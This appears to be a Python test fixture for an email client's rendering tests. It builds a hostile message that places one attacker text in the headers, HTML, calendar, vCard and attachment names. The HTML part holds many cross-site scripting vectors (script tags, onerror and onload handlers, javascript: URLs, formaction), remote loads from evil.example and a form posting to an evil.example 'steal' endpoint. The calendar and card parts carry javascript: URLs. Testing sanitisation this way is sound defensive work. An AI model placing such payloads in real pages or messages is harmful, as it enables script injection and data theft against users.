"""Messages in which one hostile text stands everywhere that a page could show it."""

from datetime import datetime
from email.headerregistry import Address
from email.message import EmailMessage
from typing import Final

from tests.browser.hostile import CANARY
from tests.browser.letters import letter

_HTML: Final = f"""\
<html><head><base href="https://evil.example/"><title>x</title>
<meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet"
href="https://evil.example/x.css"><style>@import url(https://evil.example/y.css);
body {{ background: url(https://evil.example/z.png) }}</style></head>
<body onload="window.__xss=1" background="https://evil.example/b.png">%s
<script>window.__xss=1</script><img src="x" onerror="window.__xss=1" {CANARY}="1">
<svg onload="window.__xss=1"><script>window.__xss=1</script></svg>
<iframe src="javascript:parent.__xss=1"></iframe><object data="https://evil.example/o"></object>
<form action="https://evil.example/steal"><input name="q" autofocus onfocus="window.__xss=1">
<button formaction="javascript:window.__xss=1">Weiter</button></form>
<a href="javascript:window.__xss=1">Klick</a><img srcset="https://evil.example/s.png 2x">
<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4" autoplay></video>
<div style="position:fixed;inset:0;background:url('https://evil.example/f.png')">Alles grün</div>
</body></html>
"""

_CALENDAR: Final = (
    "BEGIN:VCALENDAR\r\nPRODID:x\r\nVERSION:2.0\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\n"
    "UID:x@evil.example\r\nDTSTAMP:20261116T090000Z\r\nDTSTART:20261124T130000Z\r\n"
    "DTEND:20261124T143000Z\r\nSUMMARY:{text}\r\nLOCATION:{text}\r\nDESCRIPTION:{text}\r\n"
    'ORGANIZER;CN="{quoted}":javascript:window.__xss=1\r\nURL:javascript:window.__xss=1\r\n'
    "END:VEVENT\r\nEND:VCALENDAR\r\n"
)
_CARD: Final = (
    "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:{text}\r\nORG:{text}\r\nNOTE:{text}\r\n"
    "URL:javascript:window.__xss=1\r\nEMAIL:eva@evil.example\r\nEND:VCARD\r\n"
)


def hostile_letter(text: str, number: int, to: str, at: datetime, answers: str) -> EmailMessage:
    """Names, subject, text, HTML, names of files, a calendar, a card and a table."""
    sender = Address(display_name=text, addr_spec=f"eva{number}@evil.example")
    key = f"hostile-{number}"
    made = letter(str(sender), to, text, text, at=at, key=key, answers=answers)
    made["Reply-To"] = str(sender)
    made["Comments"] = text
    made.add_alternative(_HTML % text, subtype="html")
    quoted = text.replace('"', "'")
    made.add_alternative(
        _CALENDAR.format(text=text, quoted=quoted), subtype="calendar", params={"method": "REQUEST"}
    )
    made.add_attachment(_CARD.format(text=text), subtype="vcard", filename=f"{text}.vcf")
    made.add_attachment(f"{text};{text}\r\n", subtype="csv", filename=f"{text}.csv")
    made.add_attachment(text, subtype="html", filename=f"{text}.html")
    inner = letter(str(sender), to, text, text, at=at, key=f"{key}-inside")
    made.add_attachment(inner, filename=f"{text}.eml")
    return made
